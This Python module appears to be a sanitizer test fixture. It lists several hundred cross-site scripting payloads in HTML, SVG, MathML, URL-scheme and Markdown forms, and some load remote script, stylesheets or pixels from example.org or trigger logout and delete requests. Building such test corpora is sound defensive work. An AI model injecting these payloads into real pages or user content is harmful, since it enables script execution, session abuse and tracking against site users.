"""Our own list of script injections, one form each, for the suite.

``⏎`` stands for a line break, ``⇥`` for a tab, ``❞`` for three quotes.
"""

from __future__ import annotations

_LINES = r"""
<script>alert(1)</script>
<SCRIPT SRC=//example.org/x></SCRIPT>
<script/x>alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script⏎>alert(1)</script⏎>
<script type="module">import("//example.org")</script>
</script><script>alert(1)
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><script href="data:,alert(1)"/></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:alert(1)>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">
<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><title><img src=x onerror=alert(1)></title></svg>
<svg><desc><b onclick=alert(1)>x
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<math href="javascript:alert(1)">x</math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)"
<img/src=x/onerror=alert(1)>
<img⇥src=x⇥onerror=alert(1)>
<img⏎src=x⏎onerror=alert(1)>
<img src="x` `<script>alert(1)</script>"` `>
<img ❞><script>alert(1)</script>">
<img src=javascript:alert(1)>
<img srcset="x 1x" onerror=alert(1)>
<img src=/attachments/1.png onload=alert(1)>
<img src="/attachments/../../logout">
<img src="/attachments/%2e%2e/x" onerror=alert(1)>
<img src=//example.org/pixel.gif>
<img src=https://example.org/pixel.gif width=1>
<img src="https:/\example.org/x.png">
<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>
<image src=x onerror=alert(1)>
<picture><source srcset=//example.org/x onerror=alert(1)><img src=x></picture>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java⇥script:alert(1)">x</a>
<a href="java⏎script:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="java&NewLine;script:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="&#x6A;avascript&#x3a;alert(1)">x</a>
<a href="&#0000106&#0000097&#0000118&#0000097script:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="livescript:x">x</a>
<a href="view-source:javascript:alert(1)">x</a>
<a href="feed:javascript:alert(1)">x</a>
<a href="blob:https://example.org/x">x</a>
<a href="file:///etc/passwd">x</a>
<a href="jar:https://example.org!/x">x</a>
<a href=javascript:alert(1) target=_blank>x</a>
<a onmouseover=alert(1)>x</a>
<a href=/d/1 ping=//example.org>x</a>
<a href=/d/1 download=x.html>x</a>
<a name=body id=body>x</a>
<a href="#" style="position:fixed;inset:0">x</a>
<area href=javascript:alert(1) shape=default>
<base href=//example.org/>
<base href="javascript:/a/+alert(1)//">
<link rel=stylesheet href=//example.org/x.css>
<link rel=import href=data:text/html,x>
<link rel=prefetch href=//example.org>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv="set-cookie" content="a=b">
<meta charset=utf-7>
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<style>@import '//example.org/x.css';</style>
<style>body{background:url(//example.org)}</style>
<style><img src="</style><img src=x onerror=alert(1)//">
<p style="background:url(javascript:alert(1))">x</p>
<p style="width:expression(alert(1))">x</p>
<p style="-moz-binding:url(//example.org)">x</p>
<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>
<div onclick=alert(1)>x</div>
<div/onmouseenter="alert(1)">x</div>
<div class="btn btn-primary modal" data-bs-toggle="x">x</div>
<div hx-get=/logout hx-trigger=load>x</div>
<div data-hx-post="/delete">x</div>
<div id="csrf_token">x</div>
<div contenteditable onfocus=alert(1) autofocus>x</div>
<div tabindex=1 onfocus=alert(1)>x</div>
<b/onclick=alert(1)>x</b>
<b onclick=alert(1)//>x
<kbd accesskey=x onclick=alert(1)>x</kbd>
<table background=javascript:alert(1)><tr><td>x</table>
<table><td background="//example.org">x</table>
<table><tr><td onclick=alert(1)>x</td></tr></table>
<table><caption onmouseover=alert(1)>x</caption></table>
<table><tr><td><script>alert(1)</script></td></tr></table>
<table><tr><td><a href="javascript:alert(1)">x</a></td></tr></table>
<table><thead onpointerenter=alert(1)><tr><th>x</table>
<table><form action=javascript:alert(1)><input type=submit></table>
<details open ontoggle=alert(1)>x</details>
<details><summary onclick=alert(1)>x</summary></details>
<ul onclick=alert(1)><li onwheel=alert(1)>x</ul>
<ol start="1" onclick=alert(1)><li>x</ol>
<blockquote cite="javascript:alert(1)">x</blockquote>
<q cite=javascript:alert(1)>x</q>
<del cite=javascript:alert(1) datetime=x>x</del>
<ins onanimationend=alert(1)>x</ins>
<mark onclick=alert(1)>x</mark>
<ruby onclick=alert(1)>x<rt onclick=alert(1)>y</ruby>
<h1 onclick=alert(1) id="x onclick=alert(1)">x</h1>
<pre onclick=alert(1)>⏎<img src=x onerror=alert(1)></pre>
<figure onclick=alert(1)><figcaption onclick=alert(1)>x</figure>
<p title="</p><img src=x onerror=alert(1)>">x</p>
<abbr title='"><script>alert(1)</script>'>x</abbr>
<br onclick=alert(1)>
<hr onclick=alert(1) width=9>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<frameset onload=alert(1)>
<object data=javascript:alert(1)>
<object type=text/html data=//example.org></object>
<embed src=javascript:alert(1)>
<applet code=x></applet>
<video src=x onerror=alert(1)>
<video><source onerror=alert(1)></video>
<video poster=javascript:alert(1)>
<audio src=x onerror=alert(1)>
<body onload=alert(1)>
<html onclick=alert(1)>
<form action=javascript:alert(1)><button>x</button></form>
<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>
<input onfocus=alert(1) autofocus>
<input type=image src=x onerror=alert(1)>
<input type=checkbox onclick=alert(1)>
<input type=password name=password>
<button onclick=alert(1)>x</button>
<select onfocus=alert(1) autofocus><option>x</select>
<select><style></select><svg onload=alert(1)></style>
<textarea onfocus=alert(1) autofocus>x</textarea>
<textarea></textarea><img src=x onerror=alert(1)>
<keygen autofocus onfocus=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<isindex type=image src=1 onerror=alert(1)>
<bgsound src=javascript:alert(1)>
<xmp><img src=x onerror=alert(1)></xmp>
<plaintext onclick=alert(1)>x
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noembed><img src=x onerror=alert(1)></noembed>
<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>
<template><img src=x onerror=alert(1)></template>
<slot onslotchange=alert(1)>x</slot>
<dialog open onclose=alert(1)>x</dialog>
<portal src=javascript:alert(1)>
<x onclick=alert(1)>x</x>
<custom-element onclick=alert(1)>x</custom-element>
<!--><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)>
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml version="1.0"?><script>alert(1)</script>
<?php echo 1 ?><img src=x onerror=alert(1)>
<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;
<%00script>alert(1)</script>
<<script>alert(1)//<</script>
<IMG ❞><SCRIPT>alert(1)</SCRIPT>"\>
"><img src=x onerror=alert(1)>
'><img src=x onerror=alert(1)>
" onmouseover="alert(1)
' onmouseover='alert(1)
`"'><img src=x onerror=alert(1)>
" onfocus=alert(1) autofocus="
javascript:alert(1)
JAVASCRIPT:alert(1)
java⇥script:alert(1)
javascript&colon;alert(1)
javascript&#58;alert(1)
javascript://%0aalert(1)
javascript:alert(1)//https://example.org
data:text/html,<script>alert(1)</script>
data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+
vbscript:msgbox(1)
//example.org/x.png
/\example.org
\\example.org\share
https:example.org
[x](javascript:alert(1))
[x](javascript:alert(1 "title")
[x]( javascript:alert(1))
[x](<javascript:alert(1)>)
[x](<java⇥script:alert(1)>)
[x](&#106;avascript:alert(1))
[x](javascript&colon;alert(1))
[x](java%0ascript:alert(1))
[x](data:text/html;base64,PHNjcmlwdD4=)
[x](vbscript:x)
[x](/d/1 "onclick=alert(1)")
[x](/d/1 '"><script>alert(1)</script>')
[x](x"onclick="alert(1))
![x](javascript:alert(1))
![x](https://example.org/pixel.png)
![x](//example.org/pixel.png)
![x](/attachments/1.png"onerror="alert(1))
![x"onerror="alert(1)](/attachments/1.png)
![x](x){: onerror=alert(1) }
[x][1]⏎⏎[1]: javascript:alert(1)
[x]⏎⏎[x]: <javascript:alert(1)> "x"
![x][1]⏎⏎[1]: data:image/svg+xml,x "onload=alert(1)"
<javascript:alert(1)>
<javascript://alert(1)>
<data:text/html,x>
<https://example.org/"onclick="alert(1)>
https://example.org/"onmouseover="alert(1)
<a@b.c"onclick="alert(1)>
# x {: onclick=alert(1) #x class=btn style=position:fixed }
# x {#body .btn onclick="alert(1)"}
文字{: style="background:url(//example.org)" hx-get=/x }
*[x]: "><script>alert(1)</script>⏎⏎x
x[^1]⏎⏎[^1]: <img src=x onerror=alert(1)>
[^"onclick="alert(1)]: x⏎⏎y[^"onclick="alert(1)]
> [!note"onclick="alert(1)]⏎> x
> [!NOTE]- <img src=x onerror=alert(1)>⏎> x
/// note | <img src=x onerror=alert(1)>⏎x⏎///
/// note⏎    attrs: {onclick: alert(1)}⏎⏎x⏎///
!!! note "x" onclick=alert(1)⏎    x
??? x" onclick="alert(1)⏎    x
```html onclick=alert(1)⏎<script>alert(1)</script>⏎```
``` {.x onclick=alert(1) style=x title="<img src=x onerror=alert(1)>"}⏎x⏎```
```"><img src=x onerror=alert(1)>⏎x⏎```
`<img src=x onerror=alert(1)>`
`` ` ``<img src=x onerror=alert(1)>`
$\href{javascript:alert(1)}{x}$
$</span><img src=x onerror=alert(1)>$
\(<script>alert(1)</script>\)
$$⏎</div><svg onload=alert(1)>⏎$$
| <img src=x onerror=alert(1)> |⏎|---|⏎| [x](javascript:alert(1)) |
term⏎:   <svg onload=alert(1)>
- [x] <input onfocus=alert(1) autofocus>
==<img src=x onerror=alert(1)>==
H~<svg>~O^<svg>^
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;img src=x onerror=alert(1)&amp;gt;
\<img src=x onerror=alert(1)>
<ımg src=x onerror=alert(1)>
<ſcript>alert(1)</ſcript>
＜script＞alert(1)＜/script＞
[TOC]⏎⏎# <img src=x onerror=alert(1)>
# x" onclick="alert(1)
[x](#"onclick="alert(1))
"""

ATTACKS = [line.replace("⏎", "\n").replace("⇥", "\t").replace("❞", '"""') for line in _LINES.splitlines() if line]
"""Every payload of the list."""
